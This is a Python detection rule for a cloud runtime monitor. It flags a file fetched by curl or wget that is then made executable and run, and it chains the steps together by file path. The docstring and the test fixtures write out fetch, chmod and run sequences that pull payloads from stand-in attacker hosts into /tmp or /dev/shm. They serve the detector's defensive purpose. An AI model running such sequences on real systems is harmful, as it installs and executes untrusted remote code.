"""Execution:Runtime/DownloadedFileExecuted: a file a download tool just saved was then executed.

``wget URL -O /tmp/k; chmod +x /tmp/k; /tmp/k`` runs as three separate execs; no command line shows
the chain (a ``sh -c '…'`` one-liner is ``Execution:Runtime/SuspiciousCommand``'s). Each step is
joined by the file's path, resolved against the process's working directory:

- a download tool saving to a file (curl ``-o PATH``/``-O``/``--output-dir``, wget ``-O PATH``/``-P``
  or the URL's name; busybox wget too) remembers the path in the State table (an hour, per instance
  and boot);
- ``chmod +x`` in between is usual but not needed (the exec is the evidence; GuardDuty's
  RuntimeContext has no field to say it);
- the exec of a remembered path fires; a replayed batch fires on the same event again (the findings
  store counts an event once).

Cost (issue 14): a download also counts in one key per instance and boot (``dlx-n``), and an exec
reads only that key (one per instance per batch, with the batch's other keys); the remembered path
is read only on an instance that saved a download within the hour. An agent's events reach ingest in
order per instance, so the exec never precedes its download; a reordered delivery (an operator
replaying files out of order) is not joined: remembering every exec from a writable directory to
catch it cost a State write per new program there (a busy host's tests, builds, package hooks).

Programs under the system's package-managed directories (/usr/bin, /bin, /usr/lib ...) are never
the executed side. Severity (``vigil.vocab.session``): High from a web/app server or cron child, or
from a world-writable or hidden path; Low at an administrator's terminal otherwise (installing a
release binary by hand); else Medium. Vigil-specific (GuardDuty has no such type). Not followed:
a rename between download and exec, and a downloaded script run by an interpreter (``sh f.sh``).
"""

from __future__ import annotations

import posixpath
from collections.abc import Sequence
from typing import Any, ClassVar, Final

from vigil import sample as s
from vigil import severity
from vigil.detection import Context, Detection, Example, Meta
from vigil.detections._common import command_context
from vigil.events import Process, ProcessActivity
from vigil.vocab import DOWNLOADERS, base_name, in_writable_dir, session

TTL_S: Final = 3600  # download, chmod and run are usually seconds apart; an hour is generous
SYSTEM_DIRS: Final = (
    "/usr/bin/", "/usr/sbin/", "/usr/lib/", "/usr/lib64/", "/usr/libexec/", "/usr/share/", "/bin/", "/sbin/",
    "/lib/", "/lib64/", "/snap/", "/nix/store/", "/proc/", "/memfd:",
)  # fmt: skip
_URL_SCHEMES: Final = ("http://", "https://", "ftp://", "ftps://")


def _tool(p: Process) -> str:
    name = base_name(p)
    if name == "busybox" and p.args:  # busybox wget: the applet is argv[0]
        return p.args[0].rsplit("/", 1)[-1]
    return name


def _url_name(args: Sequence[str]) -> str:
    url = next((a for a in reversed(args) if a.startswith(_URL_SCHEMES)), "")
    path = url.split("://", 1)[-1].split("?", 1)[0].split("#", 1)[0]
    return path.rsplit("/", 1)[-1] if "/" in path else ""


def _opt(args: Sequence[str], i: int, short: str, long: str) -> str | None:
    """The value of ``-X VALUE``/``-abX VALUE``/``-XVALUE``/``--long VALUE``/``--long=VALUE`` at ``args[i]``."""
    a = args[i]
    if a == long:
        return args[i + 1] if i + 1 < len(args) else None
    if a.startswith(long + "="):
        return a[len(long) + 1 :]
    if a.startswith("-") and not a.startswith("--") and short in a[1:]:
        rest = a[a.index(short, 1) + 1 :]
        if rest:
            return rest
        return args[i + 1] if i + 1 < len(args) else None
    return None


def _saved_path(p: Process) -> str:
    """Where a curl/wget exec saves what it downloads ('' for stdout or not a download tool)."""
    tool, args = _tool(p), p.args[1:]
    out, directory, remote_name = "", "", False
    if tool == "curl":
        for i, a in enumerate(args):
            short_o = a.startswith("-") and not a.startswith("--") and "O" in a and "o" not in a
            remote_name = remote_name or short_o or a in ("--remote-name", "--remote-name-all")
            out = _opt(args, i, "o", "--output") or out
            if a.startswith("--output-dir"):
                directory = _opt(args, i, "\0", "--output-dir") or directory
        if not out and remote_name:
            out = _url_name(args)
    elif tool == "wget":
        for i in range(len(args)):
            out = _opt(args, i, "O", "--output-document") or out
            directory = _opt(args, i, "P", "--directory-prefix") or directory
        if not out:
            out = _url_name(args) or ("index.html" if any(a.startswith(_URL_SCHEMES) for a in args) else "")
    else:
        return ""
    if not out or out == "-" or out.startswith("/dev/std") or out == "/dev/null":
        return ""
    base = posixpath.join(p.working_directory or "/", directory) if directory else p.working_directory or "/"
    return posixpath.normpath(posixpath.join(base, out))


def _candidate(p: Process) -> str:
    path = p.file.path
    return path if path.startswith("/") and not path.startswith(SYSTEM_DIRS) else ""


def _key(event: ProcessActivity, role: str, path: str) -> str:
    d = event.device
    return f"dlx-{role}|{d.instance_uid}|{d.boot_uid}|{path}"


def _marker(event: ProcessActivity) -> str:
    d = event.device
    return f"dlx-n|{d.instance_uid}|{d.boot_uid}"


def _hidden_or_writable(path: str) -> bool:
    return in_writable_dir(path) or "/." in path


class DownloadedFileExecuted(Detection):
    meta = Meta(
        type="Execution:Runtime/DownloadedFileExecuted",
        severity=severity.MEDIUM,
        title="A downloaded file was executed",
        description=(
            "A download tool (curl, wget ...) saved a file that was then executed (usually after chmod +x), "
            "in separate commands: a payload fetched from the network ran on the instance."
        ),
        mitre=("T1105", "T1204.002", "T1222.002"),
        runbook=(
            "Read threatFilePath and the lineage: find the download (a curl/wget exec in the same lineage shortly before), "
            "fetch the file from an isolated system or copy it off the instance, and look for what it started."
        ),
        false_positives=(
            "Administrators installing a release binary by hand (Low at a terminal); provisioning scripts that download "
            "and run an installer (suppress by path or lineage).",
        ),
        references=(
            "https://attack.mitre.org/techniques/T1105/",
            "https://attack.mitre.org/techniques/T1204/002/",
        ),
    )
    kinds = frozenset({"process_exec"})
    stateful = True

    def state_keys(self, event: ProcessActivity) -> tuple[str, ...]:
        p = event.process
        saved = _saved_path(p) if _tool(p) in DOWNLOADERS else ""
        if saved:  # its key is loaded too, so a repeat is not written again
            return (_key(event, "w", saved), _marker(event))
        return (_marker(event),) if _candidate(p) else ()

    def match(self, event: ProcessActivity, ctx: Context) -> bool:
        p = event.process
        if _tool(p) in DOWNLOADERS:
            saved = _saved_path(p)
            if saved and not ctx.state.seen(_key(event, "w", saved)):
                ctx.state.remember(_key(event, "w", saved), TTL_S)
                ctx.state.add(_marker(event), 1, TTL_S)
            return False
        path = _candidate(p)
        if not path or ctx.state.count(_marker(event)) <= 0:
            return False  # no download saved on this instance within the hour: nothing to read
        ctx.state.load((_key(event, "w", path),))
        return ctx.state.seen(_key(event, "w", path))

    def _path(self, event: ProcessActivity) -> str:
        p = event.process
        return (_saved_path(p) if _tool(p) in DOWNLOADERS else "") or p.file.path

    def severity(self, event: ProcessActivity) -> float:
        who = session(event.process)
        if who == "service" or _hidden_or_writable(self._path(event)):
            return severity.HIGH
        return severity.LOW if who == "interactive" else self.meta.severity

    def dedup_key(self, event: ProcessActivity) -> str:
        return self._path(event)

    def context(self, event: ProcessActivity, ctx: Context) -> dict[str, Any]:
        return command_context(event.process, threatFilePath=self._path(event))

    _WEB: ClassVar = s.proc("/usr/sbin/php-fpm8.2", pid=950, uid=33, cwd="/var/www/html", stdin=s.pipe())
    fires: ClassVar = (
        Example(
            "wget -O, chmod +x, run, from a web server's child",
            (
                s.exec_(s.proc("/usr/bin/wget", "-q", "http://198.51.100.9/kworker", "-O", "/tmp/kworker", pid=3201, uid=33, parent=_WEB)),
                s.exec_(s.proc("/usr/bin/chmod", "+x", "/tmp/kworker", pid=3202, uid=33, parent=_WEB), t=1_000_000),
                s.exec_(s.proc("/tmp/kworker", pid=3203, uid=33, parent=_WEB), t=2_000_000),
            ),
        ),
        Example(
            "curl -so into /dev/shm, chmod 755, run (relative exec path resolved by the kernel)",
            (
                s.exec_(s.proc("/usr/bin/curl", "-so", ".x", "http://dl.badexample.net/a", pid=3211, uid=0, cwd="/dev/shm")),
                s.exec_(s.proc("/usr/bin/chmod", "755", ".x", pid=3212, uid=0, cwd="/dev/shm")),
                s.exec_(s.proc("/dev/shm/.x", pid=3213, uid=0, cwd="/dev/shm")),
            ),
        ),
        Example(
            "wget saving under the URL's name in the working directory, run without chmod",
            (
                s.exec_(s.proc("/usr/bin/wget", "https://dl.badexample.net/b/agent", pid=3221, cwd="/var/www/html/up")),
                s.exec_(s.proc("/var/www/html/up/agent", pid=3222, cwd="/var/www/html/up")),
            ),
        ),
    )  # fmt: skip
    near_misses: ClassVar = (
        Example(
            "a download that is never executed",
            (
                s.exec_(s.proc("/usr/bin/curl", "-fsSLo", "/tmp/data.json", "https://api.example.com/v1", pid=3241)),
                s.exec_(s.proc("/usr/bin/jq", ".", "/tmp/data.json", pid=3242)),
            ),
        ),
        Example(
            "a package-managed program run after a download of the same name elsewhere",
            (
                s.exec_(s.proc("/usr/bin/curl", "-O", "https://example.com/dl/python3", pid=3251, cwd="/home/ec2-user")),
                s.exec_(s.proc("/usr/bin/python3", "--version", pid=3252)),
            ),
        ),
        Example(
            "a download to stdout (curl | jq) and an unrelated binary run",
            (
                s.exec_(s.proc("/usr/bin/curl", "-s", "https://api.example.com/x", pid=3261, stdout=s.pipe(90))),
                s.exec_(s.proc("/opt/app/bin/server", pid=3262)),
            ),
        ),
        Example(
            "chmod +x and run of a file nobody downloaded",
            (
                s.exec_(s.proc("/usr/bin/chmod", "+x", "deploy.sh", pid=3271)),
                s.exec_(s.proc("/home/ec2-user/deploy.sh", pid=3272)),
            ),
        ),
        Example(
            "a downloaded script run by an interpreter",
            (
                s.exec_(s.proc("/usr/bin/curl", "-fsSL", "https://get.example.com", "-o", "get.sh", pid=3281)),
                s.exec_(s.proc("/bin/sh", "get.sh", pid=3282)),
            ),
        ),
    )  # fmt: skip
